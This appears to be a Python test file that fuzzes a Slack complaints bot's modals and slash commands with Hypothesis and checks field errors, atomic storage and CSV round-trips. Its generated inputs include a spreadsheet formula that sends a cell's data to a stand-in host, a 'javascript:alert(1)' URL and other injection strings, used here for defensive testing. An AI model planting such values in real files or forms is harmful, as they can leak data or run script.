"""Generated bad input for every modal and slash command: never a crash, never a partial write,
always a clear sentence against a field the modal has, and whatever a modal accepts the register
exports and imports back unchanged.

Hypothesis runs derandomized, so the same examples run every time.
"""

from __future__ import annotations

import io
import json
import logging
from datetime import UTC, date, datetime
from types import SimpleNamespace
from zoneinfo import ZoneInfo

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import func, select

from bot.complaints.inputs import (
    ClientUpdateInput,
    HoldingResponseInput,
    NewComplaint,
    ResolutionInput,
    SnoozeInput,
    TriageInput,
)
from bot.core import ids
from bot.core.config import DEFAULT_ROOT_CAUSE_CHOICES
from bot.core.errors import FieldErrors
from bot.core.vocabulary import (
    AckStatus,
    Category,
    DisclosedVia,
    DisclosureKind,
    OmbudsmanPoint,
    Outcome,
    ReceivedVia,
    Severity,
    UpdateVia,
    WrittenVia,
)
from bot.disclosures.inputs import NewDisclosure
from bot.records import register
from bot.rulebooks.schemes import RULEBOOKS
from handlers.listeners.commands.answering import UNEXPECTED
from handlers.modals.client_update import parse_client_update
from handlers.modals.disclosure import parse_disclosure
from handlers.modals.holding import parse_holding
from handlers.modals.intake import parse_intake
from handlers.modals.matter_care import parse_not_a_complaint
from handlers.modals.resolve import parse_resolution
from handlers.modals.snooze import parse_snooze
from handlers.modals.triage import parse_triage
from storage.models import Complaint, Disclosure, Event, Notification
from tests.e2e import validate_message
from tests.factories import holding_values, resolution_values, snooze_values, update_values
from tests.fakes import intake_values, triage_values

TODAY = date(2026, 11, 23)

# What a person can put in a field: nothing, blank, any text (long, unicode, markup, control
# characters, lone surrogates, what a spreadsheet runs as a formula), near-valid values (an enum
# member, a date, digits) and values that only look valid.
ENUM_VALUES = [
    m.value
    for e in (
        Category,
        ReceivedVia,
        Severity,
        UpdateVia,
        Outcome,
        OmbudsmanPoint,
        DisclosureKind,
        DisclosedVia,
        AckStatus,
        WrittenVia,
    )
    for m in e
]
field_value = st.one_of(
    st.none(),
    st.sampled_from(
        [
            "",
            " ",
            "\n",
            "0",
            "-1",
            "1",
            "3",
            "91",
            "9" * 30,
            "2026-02-30",
            "2026-13-01",
            "23/11/2026",
            "<!channel>",
            "*bold* `code`",
            "https://example.com/doc",
            "javascript:alert(1)",
            "U0123ABC",
            ",".join(p.value for p in OmbudsmanPoint),
            "available,,six_months,bogus",
            "summary",
            "summary,bogus",
        ]
    ),
    st.sampled_from(ENUM_VALUES),
    st.dates(min_value=date(1, 1, 1), max_value=date(9999, 12, 31)).map(date.isoformat),
    st.sampled_from(
        [
            "a\x00b",
            "\x00",
            "x\ud800y",
            "\udfff",
            "caf\udce9",
            "\x1b[2Jcleared",
            "del\x7f",
            "next\x85line",
            "line\r\nline",
            "\r",
            "tab\tand\nnewline",
            "\t\tindented\n",
            '=HYPERLINK("https://x.example/?"&B2)',
            "+44 20 7946 0000",
            "-",
            "@SUM(1)",
            "'=1+1",
            "''-x",
            " '@ x ",
        ]
    ),
    st.text(max_size=40),
    # Letters, spaces and punctuation among control characters (C0 and C1) and surrogates.
    st.text(max_size=40, alphabet=st.characters(categories=("Cc", "Cs", "Ll", "Lu", "Nd", "Zs", "Po", "Sm"))),
    st.text(max_size=12, alphabet=st.sampled_from(["=", "+", "-", "@", "'", "\t", "\n", " ", "a", "\x00", "\ud800"])),
    st.text(min_size=2990, max_size=3100, alphabet=st.characters(min_codepoint=32, max_codepoint=0x2FFF)),
)


@st.composite
def values_for(draw, valid: dict):
    """A modal's values: a valid submission with some of its fields (none, a few, or all) given
    generated values instead, sometimes with a stray extra key."""
    values = dict(valid)
    for f in draw(st.sets(st.sampled_from(sorted(valid)), max_size=len(valid))):
        values[f] = draw(field_value)
    if draw(st.booleans()):
        values["stray_block"] = draw(field_value)
    return values


DISCLOSURE_VALUES = {
    "client_name": "Jane Client",
    "matter_ref": "M-1001",
    "kind": "costs_estimate",
    "content": "Estimate £12,000 plus VAT.",
    "disclosed_on": "2026-11-20",
    "disclosed_via": "email",
    "ack_status": "pending",
    "follow_up_on": None,
    "document_url": None,
    "amount": "12,000",
}


def _fields(cls) -> list[str]:
    return [v for k, v in vars(cls).items() if k.isupper()]


PARSERS = {
    "intake": (lambda v: parse_intake(v, today=TODAY), intake_values(), NewComplaint),
    "triage": (lambda v: parse_triage(v, today=TODAY), triage_values(), TriageInput),
    "update": (lambda v: parse_client_update(v, today=TODAY), update_values(), ClientUpdateInput),
    "snooze": (parse_snooze, snooze_values(), SnoozeInput),
    "holding": (lambda v: parse_holding(v, today=TODAY), holding_values(), HoldingResponseInput),
    # Under an FCA scheme, so the summary resolution field is read too.
    "resolve": (
        lambda v: parse_resolution(v, today=TODAY, rulebook=RULEBOOKS["financial-ombudsman"]),
        resolution_values(summary_resolution=None),
        ResolutionInput,
    ),
    "disclosure": (
        lambda v: parse_disclosure(v, today=TODAY),
        DISCLOSURE_VALUES,
        NewDisclosure,
    ),
    # A matter's complaint prompt, Not a complaint: the reason alone.
    "not_a_complaint": (parse_not_a_complaint, {"reason": "A question about timing, answered."}, str),
}
# Where each modal's free text goes in the register: its own column, or (text the register does not
# hold) a column that takes at least as much. (parsed value's attribute, register column)
IN_REGISTER = {
    "intake": [
        ("client_name", "client_name"),
        ("matter_ref", "matter_ref"),
        ("summary", "summary"),
        ("client_request", "client_request"),
    ],
    "triage": [("note", "summary")],
    "update": [("told", "summary"), ("next_step", "summary")],
    "snooze": [("reason", "summary")],
    "holding": [("reason", "summary")],
    "resolve": [("remedy", "remedy")],
    "disclosure": [("client_name", "client_name"), ("matter_ref", "matter_ref"), ("content", "summary")],
    # Kept on the matter's timeline, not in the complaints register.
    "not_a_complaint": [],
}
LONDON = ZoneInfo("Europe/London")
READING = register.Reading(now=datetime(2026, 11, 23, 9, 30, tzinfo=UTC), tz=LONDON)
# A resolved complaint as the export reads it from the store, by store column.
STORED = dict.fromkeys(register.store_columns(register.COLUMNS)) | {
    "reference": "CMP-2026-0001",
    "status": "resolved",
    "received_on": date(2026, 11, 2),
    "received_via": "email",
    "client_name": "Jane Client",
    "category": "delay",
    "summary": "Bill too high.",
    "reporter_id": "UREPORTER",
    "logged_at": datetime(2026, 11, 2, 10, tzinfo=UTC),
    "client_update_count": 0,
    "resolved_at": datetime(2026, 11, 20, 10, tzinfo=UTC),
    "outcome": "upheld",
    "ombudsman_rights_given": True,
}


def round_trip(name: str, result) -> None:
    """Each text `result` holds, exported in a register row as CSV and imported: the same text."""
    for attribute, column in IN_REGISTER[name]:
        value = getattr(result, attribute)
        if value is None:
            continue
        out = io.StringIO(newline="")
        register.write_csv(
            out, register.COLUMNS, [SimpleNamespace(**(STORED | {register.BY_NAME[column].store: value}))], LONDON
        )
        parsed = register.read_register(io.StringIO(out.getvalue(), newline=""), reading=READING)
        assert [str(r) for r in parsed.rejections] == [], (attribute, value)
        assert parsed.rows[0].values[column] == value, (attribute, value)


FIELD_CLASSES = {
    "intake": ids.IntakeField,
    "triage": ids.TriageField,
    "update": ids.UpdateField,
    "snooze": ids.SnoozeField,
    "holding": ids.HoldingField,
    "resolve": ids.ResolveField,
    "disclosure": ids.DisclosureField,
    "not_a_complaint": ids.MatterNotAComplaintField,
}


@pytest.mark.parametrize("name", list(PARSERS))
def test_modal_parsers_give_a_value_or_a_clear_error_per_field_for_any_input(name):
    parse, valid, result_type = PARSERS[name]
    fields = _fields(FIELD_CLASSES[name])
    assert set(valid) == set(fields)
    outcomes = {"ok": 0, "errors": 0}

    @settings(max_examples=1500, derandomize=True, deadline=None)
    @given(values_for(valid))
    def check(values):
        try:
            result = parse(values)
        except FieldErrors as e:
            outcomes["errors"] += 1
            assert e.errors and set(e.errors) <= set(fields), e.errors
            for message in e.errors.values():
                # A sentence for a person: not empty, not a repr, short enough for Slack's error slot.
                assert isinstance(message, str) and 10 < len(message) < 300 and message[0].isupper()
            return
        outcomes["ok"] += 1
        assert isinstance(result, result_type)
        round_trip(name, result)

    check()
    # The generator reached both sides of each parser, so the test says something about each.
    assert outcomes["errors"] > 0 and outcomes["ok"] > 0


# Any character the store takes: no control character but newline and tab, no lone surrogate.
STORABLE = st.characters(exclude_categories=("Cc", "Cs"), include_characters="\n\t")


def test_resolution_parser_accepts_a_generated_valid_resolution():
    @settings(max_examples=300, derandomize=True, deadline=None)
    @given(
        outcome=st.sampled_from(list(Outcome)),
        root=st.sampled_from(DEFAULT_ROOT_CAUSE_CHOICES.values),
        sent=st.dates(max_value=TODAY),
        remedy=st.one_of(st.none(), st.text(max_size=3000, alphabet=STORABLE)),
    )
    def check(outcome, root, sent, remedy):
        result = parse_resolution(
            {
                "outcome": outcome.value,
                "root_cause": root,
                "final_response_sent_on": sent.isoformat(),
                "ombudsman": ",".join(p.value for p in OmbudsmanPoint),
                "remedy": remedy,
            },
            today=TODAY,
        )
        assert result.outcome == outcome and result.final_response_sent_on == sent and result.ombudsman_rights_given
        assert result.remedy == ((remedy or "").strip() or None)
        round_trip("resolve", result)

    check()


# --- over HTTP: the whole submission path, and the store before and after ---------------------------


def _counts(ctx) -> tuple[int, ...]:
    with ctx.session_factory() as s:
        return tuple(
            s.execute(select(func.count()).select_from(m)).scalar_one()
            for m in (Complaint, Disclosure, Event, Notification)
        )


def _state(view_blocks: list[dict], values: dict) -> dict:
    """The state Slack would send, for any text in any field (a select's value as its option)."""
    state = {}
    for block in view_blocks:
        if block.get("type") != "input":
            continue
        element, value = block["element"], values.get(block["block_id"])
        kind = element["type"]
        if kind in ("static_select",):
            entry = {
                "type": kind,
                "selected_option": None
                if value is None
                else {"text": {"type": "plain_text", "text": "x"}, "value": value},
            }
        elif kind == "datepicker":
            entry = {"type": kind, "selected_date": value}
        elif kind == "users_select":
            entry = {"type": kind, "selected_user": value}
        elif kind == "checkboxes":
            entry = {
                "type": kind,
                "selected_options": [
                    {"text": {"type": "plain_text", "text": "x"}, "value": v} for v in (value or "").split(",") if v
                ],
            }
        else:
            entry = {"type": kind, "value": value}
        state[block["block_id"]] = {element["action_id"]: entry}
    return state


@pytest.mark.parametrize("form", ["intake", "disclosure"])
def test_generated_submissions_store_one_record_or_nothing(live, form, caplog):
    bot, slack, ctx = live
    caplog.set_level(logging.DEBUG)
    from handlers.modals.disclosure import disclosure_modal
    from handlers.modals.intake import intake_modal

    modal = intake_modal(today=ctx.today()) if form == "intake" else disclosure_modal(today=ctx.today())
    fields = [b["block_id"] for b in modal["blocks"] if b.get("type") == "input"]
    valid = intake_values() if form == "intake" else DISCLOSURE_VALUES
    assert set(valid) == set(fields)
    seen = {"stored": 0, "refused": 0}

    @settings(
        max_examples=120, derandomize=True, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
    )
    @given(values_for(valid))
    def check(values):
        before = _counts(ctx)
        view = {**modal, "id": f"V{sum(seen.values())}", "state": {"values": _state(modal["blocks"], values)}}
        r = slack.post_payload(
            {
                "type": "view_submission",
                "user": {"id": "UFUZZ"},
                "team": {"id": "T0001"},
                "api_app_id": "A0001",
                "token": "legacy",
                "trigger_id": "1.2",
                "view": view,
            }
        )
        assert r.status == 200
        bot.wait_idle()
        after = _counts(ctx)
        if r.body:
            answer = r.json()
            assert answer["response_action"] == "errors" and set(answer["errors"]) <= set(fields)
            assert after == before, "a refused submission wrote something"
            seen["refused"] += 1
        else:
            assert after[0] + after[1] == before[0] + before[1] + 1, "an accepted submission stored one record"
            seen["stored"] += 1

    check()
    assert seen["stored"] and seen["refused"]
    # Refused with a sentence, never after a failure: no traceback reached the log.
    assert [r.getMessage() for r in caplog.records if r.exc_info] == []


command_text = st.one_of(
    st.text(max_size=60),
    st.tuples(
        st.sampled_from(
            ["show", "list", "matter", "reopen", "resolve", "holding", "hold", "release", "help", "new", "SHOW"]
        ),
        st.one_of(st.just(""), st.text(max_size=30), st.from_regex(r"CMP-[0-9]{1,5}-[0-9]{0,6}", fullmatch=True)),
    ).map(" ".join),
)


def test_generated_slash_commands_always_get_a_clear_private_answer(live, slack_double):
    bot, slack, ctx = live
    calls = {"n": 0}

    @settings(
        max_examples=150, derandomize=True, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
    )
    @given(command_text, st.sampled_from(["/complaint", "/disclosure"]))
    def check(text, command):
        before = len(slack_double.calls_to("response_url"))
        opened_before = len(slack_double.calls_to("views.open"))
        r = slack.command(text, user="ULEAD", command=command)
        assert r.status == 200
        bot.wait_idle()
        replies = slack_double.calls_to("response_url")[before:]
        if not replies:  # `new`, `resolve` and `holding` answer with a modal (or a notice modal saying why not)
            assert len(slack_double.calls_to("views.open")) == opened_before + 1, f"{command} {text!r} got no answer"
            return
        [reply] = replies
        assert reply.params["response_type"] == "ephemeral"
        validate_message(reply.params["blocks"])
        assert UNEXPECTED not in json.dumps(reply.params), f"{command} {text!r} failed on our side"
        calls["n"] += 1

    check()
    assert calls["n"] > 100
